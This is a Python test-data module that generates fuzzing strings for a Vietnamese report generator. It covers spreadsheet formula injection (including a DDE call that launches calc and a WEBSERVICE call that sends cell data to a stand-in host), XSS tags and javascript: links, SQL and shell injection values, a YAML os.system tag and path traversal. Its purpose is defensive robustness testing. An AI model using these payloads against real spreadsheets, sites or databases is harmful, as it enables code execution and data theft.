"""Texts that hurt: what a title, a name or a sentence may hold without changing a report.

Families of payloads, put together from parts; every one of them has been read somewhere as something else
than text: by spreadsheets, Markdown readers, browsers, YAML, terminals. `texts()` gives each once, in a fixed order.
"""
import itertools
import unicodedata

WORDS = ["hồ sơ", "Hà Tĩnh", "cải cách hành chính", "Sở Nội vụ", "một cửa"]
OPENERS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u200b=", "\ufeff=", "＝", "＋", "－", "＠", "−", "'=",
           "''=", "\"=", "|", "%", ";=", ",="]
CALLS = ["1+1", "SUM(A1:A9)", "HYPERLINK(\"http://x.vn\";\"xem\")", "HYPERLINK(\"http://x.vn\",\"xem\")", "cmd|' /C calc'!A0",
         "WEBSERVICE(\"http://x.vn/?\"&A1)", "DDE(\"cmd\";\"/C calc\";\"x\")", "IMPORTXML(\"http://x.vn\",\"//a\")", "A1",
         "2", "-2", "1,5", "1.5", "hồ sơ", "$A$1", "R1C1", "{1,2}", "INDIRECT(\"A1\")", "#REF!", "CHAR(61)", "TRUE", "a b", "1/7"]
CONTROLS = [chr(code) for code in range(0x20)] + [chr(code) for code in range(0x7f, 0xa0)]
DIRECTIONS = [chr(code) for code in itertools.chain(range(0x202a, 0x202f), range(0x2066, 0x206a), [0x200e, 0x200f, 0x61c])]
INVISIBLE = [chr(code) for code in [0xad, 0x34f, 0x180e, *range(0x200b, 0x200e), *range(0x2060, 0x2065), 0xfeff, 0xfe0f, 0xfff9,
                                    0xfffa, 0xfffb, 0xfffc, 0xfffd, 0xe0001, 0xe0041, 0xe007f]]
BLANKS = [chr(code) for code in [0xa0, 0x1680, *range(0x2000, 0x200b), 0x2028, 0x2029, 0x202f, 0x205f, 0x3000, 0x85]]
MARKS = [chr(code) for code in range(0x300, 0x370)]
SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java&#115;cript:", "&#106;avascript:", "\u0001javascript:", "data:text/html,",
           "data:image/svg+xml;base64,", "vbscript:", "file:///", "http://", "https://", "ftp://", "mailto:", "tel:", "//", "\\\\x\\"]
TAGS = ["script", "img", "svg", "iframe", "b", "a", "style", "table", "td", "details", "math", "template", "title", "textarea",
        "plaintext", "object", "form", "meta", "base", "link", "video", "body", "input", "br", "noscript", "xmp", "marquee"]
EVENTS = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onbegin"]


def formulas():
    yield from (opener + call for opener, call in itertools.product(OPENERS, CALLS))


def controls():
    for mark in CONTROLS:
        yield f"hồ{mark}sơ"
        yield f"{mark}trễ hạn"
        yield f"trễ hạn{mark}"
    yield "một\u001b[31mđỏ\u001b[0m"
    yield "\u001b]0;tiêu đề\u0007xong"
    yield "a\u0008b\u0008c"
    yield "dòng một\r\ndòng hai"
    yield "dòng một\n\n# dòng ba"


def directions():
    for mark in DIRECTIONS + INVISIBLE:
        yield f"99,85{mark}%"
        yield f"{mark}hoàn thành"
        yield f"đạt{mark}"
        yield f"{mark}{mark}{mark}"
    yield "kết quả \u202e\u0111\u01b0\u1ee3c\u202c ngược"
    yield "عربي 45/81 עברית"
    yield "٤٥ nhiệm vụ"


def blanks():
    for blank in BLANKS:
        yield f"một{blank}hai"
        yield f"{blank}{blank}đầu"
        yield f"cuối{blank}"


def piled():
    """Letters under heaps of marks, other normal forms, look-alikes, pairs beyond the first plane."""
    for start in range(0, len(MARKS), 8):
        yield "".join(letter + "".join(MARKS[start:start + 8]) for letter in "hanh")
    for word in WORDS:
        for form in ("NFC", "NFD", "NFKC", "NFKD"):
            yield unicodedata.normalize(form, word)
        yield word.upper()
        yield "".join(chr(ord(letter) + 0xfee0) if "!" <= letter <= "~" else letter for letter in word)
        yield word.replace("a", "а").replace("o", "о")
    yield from ["👩‍👩‍👧‍👦", "🇻🇳", "🇻", "👍🏽", "e\u0301\u0301", "ﬁ ﬂ ﬀ", "Ⅳ ① ½ ㎏", "𝐇𝐨̂̀ 𝐬𝐨̛", "𠀀𠀁", "\U0010ffff", "\ufffe", "\uffff",
                "İstanbul ı", "ß ẞ", "ǅ", "ΣΑΣ ς", "क्षि", "กำ", "한글", "漢字かな", "ﷺ", "꧅", "⁣⁣", "ⓐⓑ", "Ω Ω", "Å Å"]


def tags():
    for tag in TAGS:
        yield f"<{tag}>hồ sơ</{tag}>"
        yield f"</{tag}>"
        yield f"<{tag.upper()} x=1>"
        yield f"<{tag}/>"
    for tag, event in itertools.product(TAGS[:14], EVENTS):
        yield f"<{tag} src=x {event}=alert(1)>"
        yield f"\"><{tag} {event}='alert(1)'>"
    yield from ["<!-- chú thích -->", "-->", "<!--", "<![CDATA[ x ]]>", "]]>", "<?php echo 1 ?>", "<?xml version=\"1.0\"?>",
                "<!DOCTYPE html>", "<", ">", "< hồ sơ >", "5 < 7 > 3", "<3", "a<b>c", "<hồ sơ>", "<https://x.vn>", "<x@y.vn>",
                "<a.b:c>", "&lt;b&gt;", "&amp;", "&", "&&", "&nbsp;", "&#60;script&#62;", "&#x3c;b&#x3e;", "&copy;", "&hồ;",
                "&#0;", "&#1114112;", "&unknown;", "{{x}}", "{{{x}}}", "{{#x}}a{{/x}}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
                "{% raw %}", "[[x]]", "%s%n%d", "%00", "\\u003cb\\u003e"]


def links():
    for scheme in SCHEMES:
        yield f"{scheme}x.vn/a?b=1&c=2"
        yield f"[xem]({scheme}alert)"
        yield f"![xem]({scheme}alert \"t\")"
        yield f"<{scheme}x>"
        yield f"<a href=\"{scheme}alert(1)\">xem</a>"
        yield f"[a]: {scheme}x"
    yield from ["www.x.vn", "WWW.x.vn", "wwww.x.vn", "xem www.x.vn/a.", "x.vn", "http:/x", "a:b", "http://", "https://x.vn/đường dẫn",
                "[a][b]", "[a]", "[a]:", "[^1]", "[^1]: chú thích", "^[chú thích]", "[]()", "![]()", "[a](<b c>)", "[a](b \"c\")", "](x)",
                "[[a](b)](c)", "!\\[a](b)", "[x] xong", "[ ] chưa", ":thumbsup:", ":+1:", "@nguoidung", "#123", "owner/name#1",
                "C:\\Windows\\x", "..\\..\\x", "../../etc/x", "https://x.vn/\"onload=1", "http://x.vn/<b>"]


def markdown():
    marks = ["*", "**", "***", "_", "__", "`", "``", "```", "~", "~~", "~~~", "^", "$", "$$", "==", "++", "||", "|", "\\",
             "\\\\", "'", "\"", "''", "“", "”", "--", "---", "...", "!", "#", ">", ":", "::", ":::", "{", "}", "(", ")", "[",
             "]"]
    for mark in marks:
        yield f"{mark}hồ sơ{mark}"
        yield f"{mark} hồ sơ {mark}"
        yield f"a{mark}b{mark}c"
        yield mark
        yield f"{mark}\n{mark}"
    for start in ["# ", "## ", "###### ", "> ", ">", "- ", "* ", "+ ", "1. ", "1) ", "10. ", "2022. ", "0. ", "999999999. ",
                  "    ", "\t", "---", "***", "___", "===", "- - -", "* * *", "```", "~~~", "| a | b |", "|---|", ": ",
                  "[a]: b", "- [ ] ", "- [x] ", "<!-- ", "::: ", "%%% ", "\\", "  \n", "a\n===", "a\n---", "| a |\n|---|", "$$",
                  "@", "(1) ", "(@) ", "i. ", "A. ", "#. ", "-- ", "+++"]:
        yield start
        yield f"{start}hồ sơ"
        yield f"{start}{start}hồ sơ"
    yield from ["a | b", "\\|", "\\\\|", "`|`", "a\\", "a  ", "  a", "a\\\nb", "x^2^", "H~2~O", "*a **b* c**",
                "snake_case_name", "_a_b_", "2*3*4", "a*b", "5 * 3 * 2", "~a~", "<u>a</u>", "a&b;c", "1\\.", "\\# a", "| | |",
                "||||", "|:-:|", "{#id .class k=v}", "{width=15cm}", "(c) (r) (tm)", "a--b---c", "it's \"quoted\" text",
                "Mục 1.", "1.", "1)", "-", "+", "*", "=", "-5", "−5,25", "- 5", "+5", "# "]


def yaml():
    for key in ["a", "title", "date", "lang", "?"]:
        for value in ["b", "- b", "[b", "{b", "&b", "*b", "!b", "|", ">", "%b", "@b", "`b", "\"b", "'b", "#b", ": b", "no",
                      "null", "~", "0x1f"]:
            yield f"{key}: {value}"
    yield from ["---", "...", "--- a", "- a", "? a", "!!python/object:os.system", "!!binary aGk=", "&a *a", "*a", "<<: *a",
                "{a: 1}", "[1, 2]", "a #b", "a\n---\nb", "a\n...\n", "yes", "no", "on", "off", "y", "n", "true", "False",
                "NULL", "null", "~", "", " ", "\"", "'", "\\", "\\n", "\\x41", "\\u0041", "\"a\": b", "|", ">-", "%YAML 1.2",
                "0o17", "017", "1:30", "12:30:45", ".inf", ".NaN", "1_000", "=", "<<"]


def numbers():
    for number in ["0", "00", "007", "1", "-1", "+1", "1.5", "1,5", "1.500", "1,500", "1.234.567,5", "1 234", "1e5", "1E5",
                   "1e-5", "1d3", "0x1F", "1/2", "½", "10%", "1,5%", "$5", "5 $", "€5", "5 ₫", "(5)", "#1", "1.", ".5", ",5",
                   "-0", "--1", "1-", "9" * 15, "9" * 16, "9" * 30, "1e400", "-1e400", "NaN", "Infinity", "-inf", "1,000,000",
                   "12'345", "١٢٣", "１２３", "²", "1²", "IV", "5.0E+3", "1 1/2", "+84 24", "0912345678", "4 111 111 111 111 111",
                   "001122334455"]:
        yield number
        yield f" {number}"
        yield f"{number} "
        yield f"'{number}"
    yield from ["TRUE", "FALSE", "true", "đúng", "sai", "Đúng", "SAI", "TRUE ", "có", "không", "yes", "N/A", "#N/A", "#DIV/0!",
                "#VALUE!", "null", "nil", "None", "undefined", "-", "–", "—"]


def dates():
    days = ["2022-07-20", "20/7/2022", "20-07-2022", "20.07.2022", "7/20/2022", "07/2022", "7-2022", "2022-07", "2022/7", "1/7",
            "3-4", "12-2025", "1-Jan", "Jan-1", "jan 1", "1 jan 22", "Mar-22", "MAR1", "SEPT2", "DEC1", "may", "5 may", "May 5",
            "12:30", "12:30:45", "1:2", "24:00", "12 AM", "1am", "1 p", "1 a", "2022-07-20T12:30", "2022-07-20 12:30",
            "20220720", "0-1", "31/12", "29/2", "30/2/2022", "1/1/1", "1/1/01", "1900-01-00", "9999-12-31", "10-11-12", "2-3-4",
            "1.2.3", "1.2.2022", "1,2", "6/63", "43/63", "45/81", "12-NQ/TU", "30/2020", "tháng 7/2022", "ngày 20/7",
            "quý III/2022", "6T/2022", "H1/2022", "2022-H1", "2022-Q3", "năm 2022", "1 ngày", "3 tháng"]
    for day in days:
        yield day
        yield f"{day} "
        yield f"{day}-x"


def quotes():
    parts = ["\"", "\"\"", "\"\"\"", "'", "''", ",", ";", "\t", "\r", "\n", "\r\n", "|", "\\\"", "\\,", "\",\"", "\";\"",
             "\"\r\n\"", ",\"", "\"=1+1\"", "\"\"=1\"\"", "sep=;", "sep=,", "a\"b", "\"a", "a\"", "\"a\"", "a,b", "a;b", "a\tb",
             "a\nb", "a\r\nb", "a\rb", "\n", "\n\n", ",,,", ";;;"]
    for part in parts:
        yield part
        yield f"hồ sơ{part}"
        yield f"{part}hồ sơ"


def encodings():
    """Vietnamese as it looks after a wrong guess of the encoding, and once more."""
    for word in WORDS + ["Đắk Lắk", "Thừa Thiên Huế", "nghị quyết"]:
        data = word.encode("utf-8")
        for wrong in ("latin-1", "cp1252", "cp1258", "cp437", "utf-16-le"):
            yield data.decode(wrong, errors="replace")
        yield data.decode("latin-1").encode("utf-8").decode("latin-1")
        yield "".join(f"%{byte:02X}" for byte in data)
        yield "".join(f"&#{ord(letter)};" for letter in word)
        yield "".join(f"\\u{ord(letter):04x}" for letter in word)
        yield word.encode("utf-7").decode("ascii")
        yield "=?UTF-8?B?SOG7kyBzxqE=?=" + word


def queries():
    yield from ["'; DROP TABLE fact; --", "\" OR \"\"=\"", "1; SELECT 1", "x' UNION SELECT 1 --", "%' --", "`id`", "$(id)",
                "; id", "| id", "&& id", "\\0", "NUL", "CON", "PRN", "aux.md", "../../../x", "~root", "-rf", "--help", "a b",
                "a*b?", "(){ :;};", "${HOME}", "$HOME", "%PATH%", "() => 1", "__proto__", "constructor", "toString", "NaN",
                "[object Object]", "undefined", "eval(1)", "alert`1`", "onload=alert(1)", "</script><script>alert(1)</script>",
                "</title><script>1</script>", "</style>", "\");alert(1);//", "';alert(1)//", "\u2028alert(1)", "*/alert(1)/*",
                "expression(1)", "url(javascript:1)", "@import 'x'", "\\3c b\\3e", "<svg><desc>", "]]><x/>", "xlink:href=\"x\""]


def long():
    for letter in ["a", "=", "*", "_", "`", "[", "<", "|", "\"", "'", "&", "đ", "😀", "\u0301", "-", "#", ">", "~", "$", "\\"]:
        yield letter * 300
    yield "cải cách hành chính " * 60
    yield "không" + "-".join(["một"] * 200)
    yield "[" * 60 + "a" + "]" * 60
    yield "*a " * 120
    yield "[a](" * 80
    yield "<b>" * 80


FAMILIES = {
    "formulas": formulas, "control characters": controls, "directions and invisibles": directions, "blanks": blanks,
    "piled letters": piled, "tags": tags, "links": links, "Markdown": markdown, "YAML": yaml, "numbers": numbers, "dates": dates,
    "quotes": quotes, "encodings": encodings, "queries and scripts": queries, "long": long,
}


def texts(every=1):
    """All of them, each once, or every so many-th. An empty text cannot say anything."""
    unique = dict.fromkeys(text for family in FAMILIES.values() for text in family() if text.strip(" "))
    return list(unique)[::every]
